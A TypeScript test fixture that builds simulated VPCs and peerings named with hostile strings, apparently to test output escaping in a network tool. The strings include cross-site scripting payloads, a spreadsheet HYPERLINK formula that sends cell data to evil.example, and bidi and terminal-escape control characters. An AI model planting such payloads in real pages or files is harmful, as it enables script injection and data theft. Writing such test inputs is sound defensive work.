/** Names that mean harm to some format or other, and a world in which they are the names of VPCs and peerings. */
import { World } from '#app/world/world.ts';
import type { WorldVpc } from '#app/world/vpc.ts';

export const HOSTILE_NAMES = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '\'quoted\' & "double" <b>',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+SUM(1)|cmd',
  '@import',
  '\t=1+1',
  '-2+3',
  'pipe | pipe `code` *bold* _it_ [link](javascript:alert(1)) ![x](http://evil.example/x.png)',
  'https://evil.example/?q=1 www.evil.example mail@evil.example',
  '# heading\n- item\r\n> quote',
  '\u202eevil\u202c \u2066x\u2069 \u200fy',
  'nul\u0000bell\u0007esc\u001b[31mred del\u007f c1\u009b31m',
  ']]><!-- --> <?xml ?> &amp; &#60;b&#62;',
  'lone \ud800 surrogate',
  `${'long '.repeat(820)}end`,
] as const;

/** A VPC for each name, each peered with the next; tag keys are made of the names too where asked for. */
export function hostileWorld(
  names: readonly string[],
  keys = false,
): { world: World; vpcs: WorldVpc[] } {
  const world = new World();
  const at = world.region();
  const vpcs = names.map((name, i) => {
    const vpc = at.vpc(`v${i}`, `10.${i}.0.0/16`);
    const item = world.items.find((x) => x.id === vpc.id)!;
    const made = item.item;
    (item as { item: () => Record<string, unknown> }).item = () => ({
      ...made(),
      Tags: [
        { Key: 'Name', Value: name },
        ...(keys ? [{ Key: name.slice(0, 127), Value: name }] : []),
      ],
    });
    return vpc;
  });
  vpcs.forEach((vpc, i) => world.peer(vpcs[(i + 1) % vpcs.length]!, vpc, { name: names[i]! }));
  return { world, vpcs };
}
